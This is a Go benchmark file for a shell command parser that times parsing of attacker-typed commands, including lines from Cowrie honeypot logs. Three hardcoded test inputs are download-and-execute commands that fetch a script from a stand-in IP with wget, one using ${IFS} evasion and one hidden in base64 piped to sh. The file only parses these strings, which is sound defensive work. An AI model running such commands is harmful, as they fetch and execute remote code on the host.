package shell

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func BenchmarkFast(b *testing.B) {
	benchmark(b, `cd /tmp; sudo wget -q "http://192.0.2.1/a.sh" -O a.sh 2>/dev/null && chmod +x a.sh | tail -1`)
}

func BenchmarkSlow(b *testing.B) {
	benchmark(b, `cd /tmp; x=$(uname -m); wget${IFS}http://192.0.2.1/$x -O a.sh 2>/dev/null && (chmod +x a.sh; ./a.sh)`)
}

func BenchmarkDecode(b *testing.B) {
	benchmark(b, `echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | sh`)
}

func benchmark(b *testing.B, line string) {
	p := NewParser()
	var v View
	b.SetBytes(int64(len(line)))
	b.ReportAllocs()
	for b.Loop() {
		p.Parse(line, &v)
	}
}

// BenchmarkCaptures reads what attackers typed: ns/op is the mean over all lines, each distinct one once and each as often as it was typed.
func BenchmarkCaptures(b *testing.B) {
	counts := captures(b)
	var distinct, typed []string
	for line, n := range counts {
		distinct = append(distinct, line)
		for range n {
			typed = append(typed, line)
		}
	}
	for name, lines := range map[string][]string{"distinct": distinct, "typed": typed} {
		b.Run(name, func(b *testing.B) {
			p := NewParser()
			var v View
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				p.Parse(lines[i%len(lines)], &v)
			}
		})
	}
}

const data = "../../../../shared/data"

// captures returns the command lines of the Cowrie logs and the samdavi list, with their counts.
func captures(tb testing.TB) map[string]int {
	tb.Helper()
	counts := map[string]int{}
	paths, _ := filepath.Glob(filepath.Join(data, "cowrie/*/*.gz"))
	for _, path := range paths {
		each(tb, path, func(line []byte) {
			var ev struct{ EventID, Input string }
			if json.Unmarshal(line, &ev) == nil && ev.EventID == "cowrie.command.input" {
				counts[ev.Input]++
			}
		})
	}
	each(tb, filepath.Join(data, "commands/samdavi_commands.jsonl"), func(line []byte) {
		var row struct {
			Command string
			Count   int
		}
		if json.Unmarshal(line, &row) == nil {
			counts[row.Command] += row.Count
		}
	})
	return counts
}

// each calls f with the lines of a file, which may be compressed.
func each(tb testing.TB, path string, f func([]byte)) {
	tb.Helper()
	file, err := os.Open(path)
	if errors.Is(err, fs.ErrNotExist) {
		tb.Skip("shared/data absent")
	}
	if err != nil {
		tb.Fatal(err)
	}
	defer file.Close()
	var r io.Reader = file
	if strings.HasSuffix(path, ".gz") {
		if r, err = gzip.NewReader(file); err != nil {
			tb.Fatal(err)
		}
	}
	sc := bufio.NewScanner(r)
	sc.Buffer(nil, 4<<20)
	for sc.Scan() {
		f(sc.Bytes())
	}
	if err := sc.Err(); err != nil {
		tb.Fatal(err)
	}
}
